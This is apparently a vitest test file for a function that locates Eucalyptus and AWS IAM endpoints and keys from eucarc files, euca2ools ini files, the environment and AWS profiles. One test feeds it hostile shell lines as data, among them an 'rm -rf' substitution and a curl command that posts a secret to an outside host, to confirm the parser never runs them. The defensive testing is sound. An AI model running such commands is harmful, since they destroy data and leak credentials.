import { cloudProfile } from "@iamferry/model";
import { describe, expect, test } from "vitest";
import { findConnection } from "../../src/client/credentials/find-connection.ts";
import type {
  ConnectionProblem,
  FoundConnection,
  SoughtConnection,
} from "../../src/client/credentials/found-connection.ts";

const SECRET = "Very/Secret+Text0123456789==";
const URL_OF = (host: string): string => `http://${host}:8773/services/Euare`;

const EUCARC = String.raw`
EUCA_KEY_DIR=$(FOLDER)
export EC2_URL=http://10.1.1.1:8773/services/Eucalyptus
export EUARE_URL=${URL_OF("10.1.1.1")}
export TOKEN_URL="http://10.1.1.1:8773/services/Tokens"
export EUCALYPTUS_CERT=${"${EUCA_KEY_DIR}"}/cloud-cert.pem
export AWS_CREDENTIAL_FILE="${"${EUCA_KEY_DIR}"}/iamrc"
export EC2_ACCESS_KEY='AKIAEC2'
export EC2_SECRET_KEY='${SECRET}'
echo WARN: Auto Scaling service URL is not configured. >&2
alias ec2-bundle-image="ec2-bundle-image --cert ${"${EC2_CERT}"}"
`;
const IAMRC = `AWSAccessKeyId=AKIAIAMRC\nAWSSecretKey=${SECRET}\n`;

describe("an eucarc", () => {
  test.for([
    "$(dirname $(readlink -f ${BASH_SOURCE}))",
    "$(cd $(dirname ${BASH_SOURCE:-$0}); pwd -P)",
  ])("tells address and keys, by the iamrc that it names in its own folder %s", async (folder) => {
    const text = EUCARC.replace("$(FOLDER)", () => folder);
    const found = await find(
      { "/root/creds/eucarc": text, "/root/creds/iamrc": IAMRC },
      { eucarc: "/root/creds/eucarc" },
    );
    expect(found).toMatchObject({
      kind: "found",
      where: URL_OF("10.1.1.1"),
      whereFrom: "EUARE_URL of /root/creds/eucarc",
      keys: "/root/creds/iamrc",
      diagnostics: [],
      connection: {
        endpoint: URL_OF("10.1.1.1"),
        stsEndpoint: "http://10.1.1.1:8773/services/Tokens",
        credentials: { accessKeyId: "AKIAIAMRC", secretAccessKey: SECRET },
      },
    });
  });

  test("falls back on the keys of EC2 where the iamrc is not there", async () => {
    const found = await find({ "/e": EUCARC }, { eucarc: "/e" });
    expect(found).toMatchObject({
      keys: "EC2_ACCESS_KEY of /e",
      connection: { credentials: { accessKeyId: "AKIAEC2", secretAccessKey: SECRET } },
    });
  });

  test("is read in each way of quoting, and what only a shell could carry out is told and never done", async () => {
    const text = [
      `export EUARE_URL='${URL_OF("h")}' # where`,
      'export AWS_ACCESS_KEY="AKIA""TWO"',
      `export AWS_SECRET_KEY=${SECRET.replaceAll("=", String.raw`\=`)};`,
      `export NOTHING=$(rm -rf ${SECRET})`,
      "export OTHER=`touch /tmp/x`",
      `curl -d ${SECRET} http://example.com`,
    ].join("\r\n");
    const found = await find({ "/e": text }, { eucarc: "/e" });
    expect(found).toMatchObject({
      connection: { credentials: { accessKeyId: "AKIATWO", secretAccessKey: SECRET } },
    });
    const { diagnostics } = found as FoundConnection;
    expect(diagnostics.map(({ code }) => code)).toEqual(Array(3).fill("connection/ignored-line"));
    expect(diagnostics.map(({ message }) => /^line (\d)/.exec(message)?.[1])).toEqual([
      "4",
      "5",
      "6",
    ]);
  });

  test("that is not there is a problem that says what to give", async () => {
    expect(await find({}, { eucarc: "/no\u001b[2J" })).toMatchObject({
      kind: "problem",
      message: expect.not.stringContaining("\u001b"),
      help: expect.stringContaining("eucarc"),
    });
  });
});

const INI = {
  "/etc/euca2ools/euca2ools.ini": `[global]\ndefault-region = alpha\n`,
  "/home/ann/.euca/a.ini": `
[region alpha]
iam-url = ${URL_OF("alpha")}
sts-url = http://alpha:8773/services/Tokens
user = root
verify-tls = false
[region beta*]
iam-url: ${URL_OF("beta")} ; the second
USER = root
`,
  "/home/ann/.euca/b.ini": `
# keys
[user root]
key-id = AKIAROOT
secret-key = ${SECRET}
[user other]
use = root
key-id = AKIAOTHER
[region gamma]
iam-url = use alpha
user = other
`,
};

describe("ini files of euca2ools", () => {
  test("have a default region, its user, and say whether certificates are looked at", async () => {
    expect(await find(INI)).toMatchObject({
      kind: "found",
      whereFrom: "iam-url of [region alpha] in /home/ann/.euca/a.ini",
      keys: "key-id of [user root] in /home/ann/.euca/b.ini",
      connection: {
        endpoint: URL_OF("alpha"),
        stsEndpoint: "http://alpha:8773/services/Tokens",
        insecure: true,
        credentials: { accessKeyId: "AKIAROOT", secretAccessKey: SECRET },
      },
      diagnostics: [{ code: "connection/insecure" }],
    });
  });

  test.for([
    ["alpha", "alpha", "AKIAROOT"],
    ["beta-2", "beta", "AKIAROOT"],
    ["gamma", "alpha", "AKIAOTHER"],
    ["other@beta-1", "beta", "AKIAOTHER"],
    ["other@", "alpha", "AKIAOTHER"],
    ["@gamma", "alpha", "AKIAOTHER"],
  ] as const)("mean by %s the region %s and the key %s", async ([region, host, key]) => {
    const found = await find(INI, { region });
    expect(found).toMatchObject({
      connection: {
        endpoint: URL_OF(host),
        credentials: { accessKeyId: key, secretAccessKey: SECRET },
      },
    });
    expect((found as FoundConnection).connection.insecure === true).toBe(
      region === "alpha" || region === "other@",
    );
  });

  test("that have no such user or region are a problem", async () => {
    for (const region of ["nobody@alpha", "root@nowhere"]) {
      expect(await find(INI, { region })).toMatchObject({
        kind: "problem",
        message: expect.stringContaining(region),
        help: expect.stringContaining("[user NAME]"),
      });
    }
  });

  test("that lead in a circle end", async () => {
    const circle = { "/home/ann/.euca/a.ini": "[region a]\nuse = b\n[region b]\nuse = a\n" };
    expect(await find(circle, { region: "a" })).toMatchObject({ kind: "problem" });
  });
});

describe("the environment", () => {
  const env = {
    AWS_IAM_URL: URL_OF("env"),
    AWS_ACCESS_KEY_ID: "AKIAENV",
    AWS_SECRET_ACCESS_KEY: SECRET,
    AWS_SESSION_TOKEN: "token",
  };

  test("counts more than the default region, and less than what is named", async () => {
    expect(await find(INI, { env })).toMatchObject({
      whereFrom: "AWS_IAM_URL",
      keys: "AWS_ACCESS_KEY_ID",
      connection: {
        endpoint: URL_OF("env"),
        credentials: { accessKeyId: "AKIAENV", secretAccessKey: SECRET, sessionToken: "token" },
      },
    });
    expect(await find(INI, { env, region: "beta" })).toMatchObject({
      connection: { endpoint: URL_OF("beta"), credentials: { accessKeyId: "AKIAROOT" } },
    });
    expect(await find(INI, { env, endpoint: URL_OF("named") })).toMatchObject({
      whereFrom: "--endpoint",
      connection: { endpoint: URL_OF("named"), credentials: { accessKeyId: "AKIAENV" } },
    });
  });

  test("tells of a file of keys that cannot be read", async () => {
    const found = await find({}, { env: { EUARE_URL: URL_OF("h"), AWS_CREDENTIAL_FILE: "/none" } });
    expect(found).toMatchObject({
      keys: "the SDK's default chain",
      diagnostics: [{ code: "connection/unread-file", message: expect.stringContaining("/none") }],
    });
  });

  test("without an address is a problem that says where one can stand", async () => {
    expect(await find({})).toMatchObject({
      kind: "problem",
      message: expect.stringContaining("Eucalyptus"),
      help: expect.stringContaining("--endpoint"),
    });
    expect(await find({}, { endpoint: "10.1.1.1" })).toMatchObject({ kind: "problem" });
    expect(await find({}, { endpoint: "file:///etc/passwd" })).toMatchObject({ kind: "problem" });
  });
});

describe("on AWS", () => {
  test("a named profile counts more than keys in the environment, and without both the SDK looks", async () => {
    const profile = cloudProfile("aws");
    const env = { AWS_ACCESS_KEY_ID: "AKIAENV", AWS_SECRET_ACCESS_KEY: SECRET };
    expect(await find({}, { profile, env })).toMatchObject({
      connection: { credentials: { accessKeyId: "AKIAENV" } },
    });
    const named = await find({}, { profile, env, awsProfile: "prod" });
    expect(named).toMatchObject({ keys: "profile prod", connection: { awsProfile: "prod" } });
    expect(named).not.toHaveProperty("connection.credentials");
    expect(await find({}, { profile })).toMatchObject({
      keys: "the SDK's default chain",
      where: "https://iam.amazonaws.com",
    });
  });

  test.each([
    ["nowhere", "--endpoint is no address of http or https: `nowhere`"],
    ["", "--endpoint is no address of http or https: ``"],
    ["ftp://host", "--endpoint is no address of http or https: `ftp://host`"],
    ["http://host:99999", "--endpoint is no address of http or https: `http://host:99999`"],
    [`ann:${SECRET}@host`, "--endpoint is no address of http or https"],
    [
      `https://ann:${encodeURIComponent(SECRET)}@host/`,
      expect.stringContaining("a name or a password"),
    ],
    [`https://host/?key=${SECRET}`, expect.stringContaining("more than a host and a path")],
  ])("an address is one of http, and holds no secret: %s", async (endpoint, message) => {
    const aws = await find({}, { profile: cloudProfile("aws"), endpoint });
    expect(aws).toMatchObject({ kind: "problem", message: message as string });
    expect(await find({}, { endpoint })).toMatchObject({ message: message as string });
    const env = { AWS_ENDPOINT_URL_STS: "nowhere" };
    expect(await find({}, { profile: cloudProfile("aws"), env })).toMatchObject({
      message: "AWS_ENDPOINT_URL_STS is no address of http or https: `nowhere`",
    });
  });

  test("a region of another partition leads to no other cloud", async () => {
    const profile = cloudProfile("aws");
    for (const region of ["cn-north-1", "us-gov-west-1", "eu west", "a.b/c"]) {
      // oxlint-disable-next-line no-await-in-loop
      expect(await find({}, { profile, region })).toMatchObject({
        kind: "problem",
        message: `AWS has no region \`${region}\``,
      });
    }
    const chinese = await find({}, { profile, env: { AWS_REGION: "cn-north-1" } });
    expect(chinese).not.toHaveProperty("connection.region");
    expect(await find({}, { profile, env: { AWS_REGION: "eu-west-3" } })).toMatchObject({
      connection: { region: "eu-west-3" },
    });
  });
});

async function find(
  texts: Readonly<Record<string, string>>,
  more: Partial<SoughtConnection> = {},
): Promise<FoundConnection | ConnectionProblem> {
  const found = await findConnection({
    profile: cloudProfile("eucalyptus-5.1"),
    env: {},
    home: "/home/ann",
    files: async (path) => (Object.hasOwn(texts, path) ? texts[path] : undefined),
    list: async (folder) =>
      Object.keys(texts).filter(
        (path) => path.startsWith(folder) && !path.slice(folder.length + 1).includes("/"),
      ),
    ...more,
  });
  // The secret stands in the connection, and nowhere else.
  const { connection: _, ...told } = { connection: undefined, ...found };
  expect(JSON.stringify(told)).not.toContain(SECRET);
  return found;
}
